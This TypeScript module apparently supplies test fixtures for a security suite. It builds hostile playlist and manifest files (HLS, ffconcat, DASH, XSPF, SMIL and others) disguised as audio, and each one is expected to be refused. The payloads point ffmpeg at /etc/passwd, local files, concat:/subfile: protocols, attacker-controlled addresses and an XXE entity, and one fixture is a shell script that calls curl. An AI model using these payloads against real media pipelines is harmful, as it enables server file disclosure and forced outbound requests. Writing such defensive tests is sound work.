import { type HostileFile, type Prey, REFUSED } from './hostile-file.js';
import { id3Tag, text } from './bytes.js';
import { sound } from './sounds.js';

const PASSWD = 'file:///etc/passwd';

/** Every kind of list that ffmpeg, or some player, would follow to another place. */
const LISTS: Record<string, (prey: Prey) => Buffer> = {
  'an HLS playlist of a local file': ({ file }) => hls(`file://${file}`),
  'an HLS playlist of a plain path': ({ file }) => hls(file),
  'an HLS playlist of /etc/passwd': () => hls(PASSWD),
  'an HLS playlist of an address': ({ address }) => hls(`${address}/a.ts`),
  'an HLS playlist with a key at an address': ({ address, file }) =>
    text('#EXTM3U', `#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"`, '#EXTINF:10,', file, '#EXT-X-ENDLIST'),
  'an HLS master playlist': ({ address }) =>
    text('#EXTM3U', '#EXT-X-STREAM-INF:BANDWIDTH=1', `concat:${address}/header|${PASSWD}`),
  'an HLS playlist with a BOM': ({ file }) => Buffer.concat([Buffer.from('\ufeff'), hls(file)]),
  'an ffconcat script': ({ file }) => text('ffconcat version 1.0', `file '${file}'`, `file '${PASSWD}'`),
  'an ffconcat script with a protocol': ({ address }) => text('ffconcat version 1.0', `file ${address}/a.mp3`),
  'a concat: and subfile: line': ({ file }) => text(`concat:${file}|${PASSWD}`, `subfile,,start,0,end,9,,:${file}`),
  'an SDP session': () =>
    text('v=0', 'o=- 0 0 IN IP4 127.0.0.1', 's=a', 'c=IN IP4 127.0.0.1', 't=0 0', 'm=audio 5004 RTP/AVP 0'),
  'an M3U list': ({ address, file }) => text(file, `${address}/a.mp3`),
  'a PLS list': ({ address }) => text('[playlist]', `File1=${address}/a.mp3`, 'NumberOfEntries=1', 'Version=2'),
  'an XSPF list': ({ address }) =>
    text('<?xml version="1.0"?>', `<playlist version="1"><trackList><track><location>${address}/a.mp3</location>`),
  'a SMIL presentation': ({ address }) => text(`<smil><body><audio src="${address}/a.mp3"/></body></smil>`),
  'an ASX list': ({ address }) => text(`<asx version="3.0"><entry><ref href="${address}/a.wma"/></entry></asx>`),
  'an ASF reference': ({ address }) => text('[Reference]', `Ref1=${address}/a.wma?MSWMExt=.asf`),
  'a DASH manifest': ({ address, file }) =>
    text(
      '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>',
      `<Representation id="0" mimeType="audio/mp4" bandwidth="1"><BaseURL>${address}/</BaseURL>`,
      `<SegmentList><SegmentURL media="file://${file}"/></SegmentList></Representation></AdaptationSet></Period></MPD>`,
    ),
  'an XML with an external entity': ({ file }) => text(`<!DOCTYPE a [<!ENTITY b SYSTEM "file://${file}">]><a>&b;</a>`),
  'a script for a shell': ({ address }) => text('#!/bin/sh', `curl ${address}/pwned`),
  'a RealMedia link': ({ address }) => text(`rtsp://127.0.0.1/a.ra`, `${address}/a.rm`),
};

/** Playlists that pose as audio, some behind a beginning that looks like it. */
export const PLAYLISTS: HostileFile[] = [
  ...Object.entries(LISTS).map(([title, make]): HostileFile => ({ title, ends: REFUSED, make })),
  {
    title: 'an HLS playlist behind an ID3 tag',
    ends: REFUSED,
    make: ({ file, address }) => Buffer.concat([id3Tag(Buffer.alloc(64)), hls(file), hls(`${address}/b.ts`)]),
  },
  {
    title: 'an HLS playlist behind three frames of MP3',
    ends: ['ready', ...REFUSED],
    make: async ({ file, address }) =>
      Buffer.concat([(await sound('mp3')).subarray(45, 1_500), hls(file), hls(`${address}/c.ts`)]),
  },
  {
    title: 'a playlist behind the sign of AMR',
    ends: ['ready', ...REFUSED],
    make: ({ address, file }) => Buffer.concat([Buffer.from('#!AMR\n'), hls(file), hls(`${address}/d.ts`)]),
  },
];

const hls = (place: string) =>
  text('#EXTM3U', '#EXT-X-TARGETDURATION:10', '#EXT-X-MEDIA-SEQUENCE:0', '#EXTINF:10,', place, '#EXT-X-ENDLIST');
